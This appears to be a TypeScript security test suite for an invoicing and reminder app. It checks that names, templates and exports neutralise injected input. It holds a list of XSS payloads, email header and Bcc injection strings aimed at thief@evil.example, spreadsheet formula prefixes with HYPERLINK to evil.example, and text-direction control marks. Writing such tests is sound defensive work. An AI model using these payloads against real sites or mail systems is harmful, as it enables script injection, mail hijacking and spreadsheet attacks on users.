import { chromium } from '@playwright/test'
import { unzipSync } from 'fflate'
import Papa from 'papaparse'
import PostalMime from 'postal-mime'
import { chromiumFlags, findChromium } from '#test/chromium.ts'
import type { FakeSmtp } from '#test/fakes/smtp-server.ts'
import { onPostgres, openMailServer } from '#test/faults/environment.ts'
import { row, type Trial } from '#test/faults/row.ts'
import { type Browser, openTarget, overdueInvoice, password, signUp, startTarget } from './browser.ts'
import { chromiumPackets, strayPackets } from './egress.ts'

const run = 'window.hit=1'
const scripts = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src=data:,${run}></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}" `,
  `<img/src=x/onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<iframe src="javascript:parent.hit=1"></iframe>`,
  `<a href="javascript:${run}" autofocus>x</a>`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<link rel=stylesheet href="javascript:${run}">`,
  `<style>@import 'javascript:${run}';</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<form action="javascript:${run}"><button autofocus>x</button></form>`,
  `<b onmouseover=${run} style="position:fixed;inset:0">x</b>`,
  `<b style="background:url(javascript:${run})">x</b>`,
  `<i id="x" onclick=${run} tabindex=1 autofocus onfocus=${run}>x</i>`,
  `<br onload=${run}>`,
  `"><script>${run}</script>`,
  `'><img src=x onerror=${run}>`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `\u003cscript\u003e${run}\u003c/script\u003e`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
]
/** Each script in five positions of a text. */
const corpus = scripts.flatMap((one) => [one, `Kaveri ${one}`, `<b>${one}</b>`, `${one}${one}`, `<b><i>${one}`])
const allowed = new Set(['br', 'b', 'i', 'u', 'strong', 'em'])

/** An account with a mailbox. Each sends by hand once: a second time within a minute answers with the first run. */
interface Sender {
  smtp: FakeSmtp
  browser: Browser
}

async function newSender(url: string, smtp: FakeSmtp, displayName = 'Asha Rao'): Promise<Sender> {
  const browser = await signUp(url, { displayName })
  await browser.saveMailbox(smtp)
  return { smtp, browser }
}

async function openSender(trial: Trial): Promise<Sender> {
  const smtp = await openMailServer(trial)
  return newSender((await openTarget(trial)).url, smtp)
}

/** An email without anything harmful in it. */
async function harmlessEmail(trial: Trial, { browser, smtp }: Sender): Promise<Buffer> {
  const sender = await newSender(browser.url, smtp)
  await sender.browser.ask('POST /invoice', { body: overdueInvoice({ clientEmail: 'plain@client.example' }) })
  const [email] = await sendAll(trial, sender, 1)
  return email?.raw ?? Buffer.alloc(0)
}

const template = (customSubject: string, customContent: string) => ({ useCustomTemplate: true, customSubject, customContent })

/** Every tag of a document, as it is written there. */
const tagsOf = (html: string): string[] => html.match(/<\/?[a-z!][^>]*>/gi) ?? []

/** Tags of an email beyond those that every email has, and beyond the six that are allowed, without attributes. */
function forbiddenTags(html: string, usual: Set<string>): string[] {
  return tagsOf(html).filter((tag) => !usual.has(tag) && !allowed.has(/^<\/?([a-z]+)\s*\/?>$/i.exec(tag)?.[1]?.toLowerCase() ?? ''))
}

/** Sends everything that is due and answers the emails that left. */
async function sendAll(trial: Trial, { browser, smtp }: Sender, count: number): Promise<FakeSmtp['mails']> {
  const before = smtp.mails.length
  await browser.ask('POST /reminder/send-immediate')
  await trial.until(`${count} emails leave`, () => smtp.mails.length >= before + count)
  return smtp.mails.slice(before)
}

row('70', `${corpus.length} scripts in names, templates and invoices, viewed in preview, email and lists`, async (trial) => {
  trial.mustHold('executed 0; tags beside the six allowed 0')
  const executablePath = findChromium()
  if (!executablePath) return trial.skip('there is no Chromium on this machine')
  const sender = await openSender(trial)
  const { browser, smtp } = sender
  const html = async (raw: Buffer) => (await PostalMime.parse(raw)).html ?? ''
  const usual = new Set(tagsOf(await html(await harmlessEmail(trial, sender))))
  let entered = 0
  for (const [nth, clientName] of corpus.entries()) {
    const body = overdueInvoice({ clientName, clientEmail: `c${nth}@client.example` })
    if ((await browser.ask('POST /invoice', { body })).status === 201) entered += 1
  }
  const emails = await Promise.all((await sendAll(trial, sender, entered)).map(({ raw }) => html(raw)))
  // The template itself, and the name of its author.
  for (const script of trial.short ? scripts.slice(0, 8) : scripts) {
    const author = await newSender(browser.url, smtp, script)
    await author.browser.ask('PUT /mail-config/template', {
      body: template('Pay {{invoiceId}}', `${script} {{clientName}} {{userName}}`),
    })
    await author.browser.ask('POST /invoice', { body: overdueInvoice({ clientName: script }) })
    const [email] = await sendAll(trial, author, 1)
    emails.push(await html(email?.raw ?? Buffer.alloc(0)))
  }
  const tags = emails.flatMap((email) => forbiddenTags(email, usual))

  const packets = strayPackets()
  const chrome = await chromium.launch({ executablePath, args: chromiumFlags })
  let executed = 0
  try {
    const page = await chrome.newPage()
    const check = async () => {
      if (await page.evaluate('"hit" in window')) executed += 1
    }
    for (const email of emails) {
      await page.setContent(email, { waitUntil: 'domcontentloaded' })
      await check()
    }
    await browser.ask('PUT /mail-config/template', { body: template(scripts[0] ?? '', scripts.join('\n')) })
    await page.goto(`${browser.url}/signin`)
    await page.getByLabel('Email').fill(browser.email)
    await page.getByLabel('Password', { exact: true }).fill(password)
    await page.locator('form button[type=submit]').click()
    await page.waitForURL(/\/dashboard$/)
    for (const screen of ['', '/email-templates', '/reminder-control', '/profile?tab=security']) {
      await page.goto(`${browser.url}/dashboard${screen}`)
      await page.waitForLoadState('networkidle')
      await check()
      for (const frame of page.frames()) if (await frame.evaluate('"hit" in window').catch(() => false)) executed += 1
    }
  } finally {
    await chrome.close()
    chromiumPackets.count += strayPackets() - packets
  }
  return {
    figure: `${entered} of ${corpus.length} accepted, ${emails.length} emails: executed ${executed}, tags beside the six ${tags.length}${tags.length > 0 ? ` (${tags.slice(0, 3).join(' ')})` : ''}`,
    holds: executed === 0 && tags.length === 0 && entered > 100,
  }
})

const breaks = ['\r\n', '\n', '\r', '\r\n ', '%0d%0a', '\u2028', '\u0085', '\u0000']
const headers = ['Bcc: thief@evil.example', 'RCPT TO:<thief@evil.example>', 'X-Evil: 1']

/** Ways to inject a recipient or a header into a name, an address or a subject. */
const injections = [
  ...breaks.flatMap((one) => headers.map((header) => `x${one}${header}`)),
  'a@client.example, thief@evil.example',
  'a@client.example; thief@evil.example',
  'a@client.example thief@evil.example',
  '"a, thief@evil.example" <a@client.example>',
  '<thief@evil.example> a@client.example',
  'group: thief@evil.example, a@client.example;',
  '"quoted\\" <thief@evil.example>"@client.example',
  'a@client.example>\r\nRCPT TO:<thief@evil.example',
  '=?utf-8?q?=0d=0aBcc:_thief@evil.example?=',
  '=?utf-8?b?DQpCY2M6IHRoaWVmQGV2aWwuZXhhbXBsZQ==?=',
  'a@client.example\t<thief@evil.example>',
  '(comment) thief@evil.example',
]

row('71', `${injections.length} ways to inject a recipient or a header, in four fields`, async (trial) => {
  trial.mustHold('further recipients 0; further headers 0')
  const sender = await openSender(trial)
  const { browser, smtp } = sender
  const names = (raw: Buffer) =>
    [...(raw.toString('latin1').split('\r\n\r\n', 1)[0] ?? '').matchAll(/^([\w-]+):/gm)].map(([, name = '']) => name.toLowerCase())
  const usual = new Set([...names(await harmlessEmail(trial, sender)), 'in-reply-to', 'references'])
  let [tries, refused] = [0, 0]
  const expected = new Set<string>(['plain@client.example'])
  const enter = async (nth: string, about: object) => {
    tries += 1
    const { status, body } = await browser.ask('POST /invoice', {
      body: { ...overdueInvoice({ clientEmail: `c${nth}@client.example` }), ...about },
    })
    if (status !== 201) refused += 1
    else expected.add((body as { clientEmail: string }).clientEmail)
  }
  for (const [nth, injection] of injections.entries()) {
    await enter(`${nth}`, { clientName: injection })
    await enter(`${nth}`, { clientEmail: injection })
    await enter(`${nth}.ref`, { reference: injection })
  }
  await sendAll(trial, sender, expected.size - 1)
  for (const [nth, injection] of injections.entries()) {
    tries += 1
    const body = template(injection, 'Please pay {{amount}}')
    const named = await browser.ask('PATCH /user/profile', { body: { displayName: injection } })
    const templated = await browser.ask('PUT /mail-config/template', { body })
    if (named.status >= 400 && templated.status >= 400) {
      refused += 1
      continue
    }
    expected.add(`w${nth}@client.example`)
    const author = await newSender(browser.url, smtp, named.status < 400 ? injection : undefined)
    if (templated.status < 400) await author.browser.ask('PUT /mail-config/template', { body })
    await author.browser.ask('POST /invoice', { body: overdueInvoice({ clientEmail: `w${nth}@client.example` }) })
    await sendAll(trial, author, 1)
  }
  const recipients = smtp.mails.filter(({ envelope: { to } }) => to.length !== 1 || !expected.has(to[0] ?? '')).length
  const evil = smtp.commands.filter((line) => /^RCPT TO:.*evil\.example>/i.test(line)).length
  const further = smtp.mails.flatMap(({ raw }) => names(raw)).filter((name) => !usual.has(name))
  return {
    figure: `${tries} tries, ${refused} refused, ${smtp.mails.length} emails: further recipients ${recipients + evil}, further headers ${further.length}${further.length > 0 ? ` (${[...new Set(further)].slice(0, 3).join(', ')})` : ''}`,
    holds: recipients + evil === 0 && further.length === 0 && smtp.mails.length > 10,
  }
})

const prefixes = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '＋', '－', '＠', 'x;=', 'x; "=', 'x;+']

row('73', `${prefixes.length} beginnings of a formula in everything that is exported`, async (trial) => {
  trial.mustHold('dangerous cells 0; amounts are numbers')
  const program = await openTarget(trial)
  const browser = await signUp(program.url)
  let entered = 0
  for (const prefix of prefixes) {
    const body = overdueInvoice({ clientName: `${prefix}HYPERLINK("https://evil.example")` })
    if ((await browser.ask('POST /invoice', { body })).status === 201) entered += 1
  }
  const files = [(await browser.ask('GET /invoices/export')).text]
  const zip = await fetch(`${program.url}/user/export`, { headers: { authorization: `Bearer ${browser.token}` } })
  for (const [name, bytes] of Object.entries(unzipSync(new Uint8Array(await zip.arrayBuffer()))))
    if (name.endsWith('.csv')) files.push(Buffer.from(bytes).toString())
  let [cells, dangerous, amounts, wrongAmounts] = [0, 0, 0, 0]
  for (const text of files) {
    // Where the list separator is a semicolon, as in much of Europe.
    dangerous += text.split(/[;\t\r\n]/).filter((cell) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell)).length
    const { data } = Papa.parse<Record<string, string>>(text.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true })
    for (const line of data)
      for (const [column, cell] of Object.entries(line)) {
        cells += 1
        if (/^\s*[=+\-@＝＋－＠]/.test(cell) && Number.isNaN(Number(cell))) dangerous += 1
        if (!/^amount/i.test(column)) continue
        amounts += 1
        if (cell === '' || Number.isNaN(Number(cell))) wrongAmounts += 1
      }
  }
  return {
    figure: `${entered} of ${prefixes.length} accepted, ${files.length} files, ${cells} cells: dangerous ${dangerous}; ${amounts} amounts, ${wrongAmounts} not numbers`,
    holds: entered > 0 && dangerous === 0 && amounts >= 2 * entered && wrongAmounts === 0,
  }
})

row(
  '141',
  'marks that turn the direction of a text in every name, reference and note, entered and stored before',
  { short: true },
  async (trial) => {
    trial.mustHold('none in an answer, in the database or in any part of an email')
    const [turned, marks] = ['\u202emocelpmaxe\u2066\u200f\u061c', /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/]
    const environment = await onPostgres(trial)
    const { url } = await startTarget(environment)
    const smtp = await openMailServer(trial)
    const owner = await signUp(url, { displayName: `Asha ${turned}` })
    await owner.saveMailbox(smtp)
    const answers = [
      await owner.ask('PATCH /business', { body: { name: `Neem ${turned}`, brand: { name: `Neem ${turned} Ltd` } } }),
      await owner.ask('PUT /payment-settings', { body: { businessName: `Neem ${turned}`, details: `GSTIN ${turned}`, ...owner.proof } }),
      await owner.ask('POST /invoice', { body: { ...overdueInvoice({ clientName: `Kaveri ${turned}` }), reference: `A-1 ${turned}` } }),
      await owner.ask('POST /invoices/import', {
        body: {
          lines: [
            { ...overdueInvoice({ clientName: `Meera ${turned}`, clientEmail: 'meera@client.example' }), reference: `A-2 ${turned}` },
          ],
        },
      }),
    ]
    const [invoice] = (await owner.ask('GET /invoice')).body as { _id: string }[]
    answers.push(
      await owner.ask(`POST /invoice/${invoice?._id}/notes`, { body: { text: `Called ${turned}` } }),
      await owner.ask(`POST /invoice/${invoice?._id}/payments`, {
        body: { amount: 1, reference: `UTR ${turned}`, note: `Cash ${turned}` },
      }),
    )
    const columns = await environment.rows<{ table: string; column: string }>(
      `SELECT table_name AS table, column_name AS column FROM information_schema.columns WHERE table_schema = 'public' AND data_type IN ('text', 'jsonb')`,
    )
    const stored: string[] = []
    for (const { table, column } of columns) {
      const found = await environment.rows(`SELECT 1 FROM "${table}" WHERE "${column}"::text ~ $1 LIMIT 1`, [marks.source])
      if (found.length > 0) stored.push(`${table}.${column}`)
    }
    const send = async (emails: number) => {
      await owner.ask('POST /reminder/send-immediate')
      await trial.until('emails arrive', () => smtp.mails.length >= emails)
    }
    await send(2)
    // As a version without this rule has stored them.
    for (const [table, column] of [
      ['people', 'display_name'],
      ['accounts', 'name'],
      ['invoices', 'client_name'],
      ['invoices', 'reference'],
    ])
      await environment.rows(`UPDATE ${table} SET ${column} = ${column} || $1`, [turned])
    await owner.ask('POST /invoice', { body: overdueInvoice({ clientEmail: 'third@client.example' }) })
    await environment.rows(`DELETE FROM throttles`)
    await environment.rows(`UPDATE runs SET created_at = created_at - interval '5 minutes'`)
    await send(5)
    const parts: string[] = []
    for (const { raw } of smtp.mails) {
      const { from, to, subject, text, html } = await PostalMime.parse(raw)
      for (const [part, words] of Object.entries({ from: from?.name, to: to?.[0]?.name, subject, text, html }))
        if (marks.test(words ?? '')) parts.push(part)
    }
    const failed = answers.filter(({ status }) => status >= 300)
    const shown = answers.filter(({ text }) => marks.test(text))
    return {
      figure: `${answers.length} changes, ${failed.length} refused, ${shown.length} answered with one; stored in ${stored.length} columns${stored.length > 0 ? ` (${stored.join(', ')})` : ''}; ${smtp.mails.length} emails, in ${parts.length} parts${parts.length > 0 ? ` (${[...new Set(parts)].join(', ')})` : ''}`,
      holds: failed.length === 0 && shown.length === 0 && stored.length === 0 && parts.length === 0,
    }
  },
)
